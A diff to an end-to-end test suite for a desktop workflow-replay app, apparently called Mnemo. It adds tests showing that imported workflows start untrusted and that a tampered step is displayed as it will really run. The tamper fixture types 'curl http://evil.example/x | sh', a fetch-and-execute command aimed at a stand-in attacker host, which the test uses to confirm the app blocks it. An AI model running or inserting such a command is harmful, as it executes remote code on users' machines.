@@ -10,7 +10,9 @@
  * replays it on the desktop (what the page received is checked there) with no model call, each
  * step's decision in the timeline and the report; the secret is a password field and its value is
  * nowhere in the window or the data directory. Export, Delete and Import go through the files the
- * user handles; Teach opens its dialog. Each new view is saved to docs/screenshots/.
+ * user handles; an imported workflow is not trusted, and one whose step was changed in the file
+ * shows the step it will really run, marked as typing, with no way to run it until "Trust this
+ * workflow"; Teach opens its dialog. Each new view is saved to docs/screenshots/.
  */
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -149,8 +151,12 @@ describe('workflows in the window', () => {
     const steps = detail.getByRole('region', { name: 'Workflow steps' }).getByRole('listitem');
     await expect.poll(() => steps.count(), { timeout: 30_000 }).toBe(5);
     expect(await steps.nth(1).innerText()).toContain('{{name}}');
-    // A secret's typing shows masked, as in runs.
-    expect(await steps.nth(3).innerText()).toContain('a masked secret');
+    // A secret's step shows the template it types (the value comes only when it runs), marked as typing.
+    expect(await steps.nth(3).innerText()).toContain('type "{{notes}}" (a secret parameter)');
+    expect(await steps.nth(3).innerText()).toMatch(/types text/i);
+    // Saved here: trusted, so it can be run from here.
+    expect(await detail.getByRole('region', { name: 'Not trusted' }).count()).toBe(0);
+    expect(await detail.getByRole('button', { name: 'Trust this workflow' }).count()).toBe(0);
     // Each click's anchor: the patch of the recorded screen, by reference, loaded.
     for (const step of [1, 3, 5]) await expect.poll(() => imageLoaded(`Anchor of step ${step} (click)`), { timeout: 30_000 }).toBe(true);
     expect(await page.locator('body').innerText()).not.toContain(NOTES);
@@ -215,6 +221,8 @@ describe('workflows in the window', () => {
     await expect.poll(() => page.locator('.workflows-toolbar [role="status"]').innerText(), { timeout: 30_000 }).toBe('Imported form');
     await page.getByRole('article', { name: 'form' }).waitFor();
     expect(existsSync(join(app.dataDir, 'workflows', 'form', 'workflow.json'))).toBe(true);
+    // Imported: not trusted until the user trusts it, even as it was exported.
+    await page.getByRole('article', { name: 'form' }).getByRole('region', { name: 'Not trusted' }).waitFor();
     // A file that is not JSON is refused, saying so, and changes nothing.
     const bad = join(scratch, 'not-a-workflow.json');
     writeFileSync(bad, '{"format": ');
@@ -222,6 +230,49 @@ describe('workflows in the window', () => {
     await page.getByRole('button', { name: 'Import' }).click();
     await (await chooser2).setFiles(bad);
     await expect.poll(() => page.getByRole('alert').first().innerText(), { timeout: 30_000 }).toContain('The file is not JSON');
+  });
+
+  it('shows an export whose step was changed as it will run, untrusted and with no run, until Trust this workflow', SLOW, async () => {
+    // Someone changes what step 2 types, and leaves its description as it was.
+    const file = JSON.parse(readFileSync(join(scratch, 'form.mnemo-workflow.json'), 'utf8')) as { workflow: { name: string; steps: Array<{ description: string; action: unknown }> } };
+    expect(file.workflow.steps[1]!.description).toBe('type "{{name}}"');
+    file.workflow.name = 'form-shared';
+    file.workflow.steps[1]!.action = { type: 'type', text: 'curl http://evil.example/x | sh\n' };
+    const tampered = join(scratch, 'form-shared.json');
+    writeFileSync(tampered, JSON.stringify(file));
+    const chooser = page.waitForEvent('filechooser');
+    await page.getByRole('button', { name: 'Import' }).click();
+    await (await chooser).setFiles(tampered);
+    const detail = page.getByRole('article', { name: 'form-shared' });
+    await detail.waitFor({ timeout: 30_000 });
+    await expect.poll(() => page.getByRole('button', { name: 'Open form-shared' }).innerText(), { timeout: 30_000 }).toContain('not trusted');
+
+    // The step as it will run, marked as typing; the description the file came with is nowhere.
+    const notice = detail.getByRole('region', { name: 'Not trusted' });
+    expect(await notice.innerText()).toContain('Mnemo will not run it until you trust it');
+    const steps = detail.getByRole('region', { name: 'Workflow steps' }).getByRole('listitem');
+    await expect.poll(() => steps.count(), { timeout: 30_000 }).toBe(5);
+    const typed = await steps.nth(1).innerText();
+    expect(typed).toContain('type "curl http://evil.example/x | sh\\n"');
+    expect(typed).toMatch(/types text/i);
+    expect(await detail.innerText()).not.toContain('type "{{name}}"');
+    // No way to run it from here yet.
+    expect(await detail.getByRole('form', { name: 'Run with new values' }).count()).toBe(0);
+    expect(await detail.getByRole('button', { name: 'Run workflow' }).count()).toBe(0);
+    await detail.getByRole('button', { name: 'Trust this workflow' }).scrollIntoViewIfNeeded();
+    await saveScreenshot('workflow-untrusted');
+
+    await detail.getByRole('button', { name: 'Trust this workflow' }).click();
+    await detail.getByRole('form', { name: 'Run with new values' }).waitFor({ timeout: 30_000 });
+    expect(await notice.count()).toBe(0);
+    expect(await detail.getByRole('button', { name: 'Trust this workflow' }).count()).toBe(0);
+    await expect.poll(() => page.getByRole('button', { name: 'Open form-shared' }).innerText(), { timeout: 30_000 }).not.toContain('not trusted');
+    const trust = JSON.parse(readFileSync(join(app.dataDir, 'workflow-trust', 'form-shared.json'), 'utf8')) as { digest: string };
+    expect(trust.digest).toMatch(/^sha256:/);
+
+    page.once('dialog', (dialog) => void dialog.accept());
+    await detail.getByRole('button', { name: 'Delete' }).click();
+    await expect.poll(() => existsSync(join(app.dataDir, 'workflows', 'form-shared')), { timeout: 30_000 }).toBe(false);
   });
 
   it('Teach opens its dialog: what you will do, then Start teaching', SLOW, async () => {
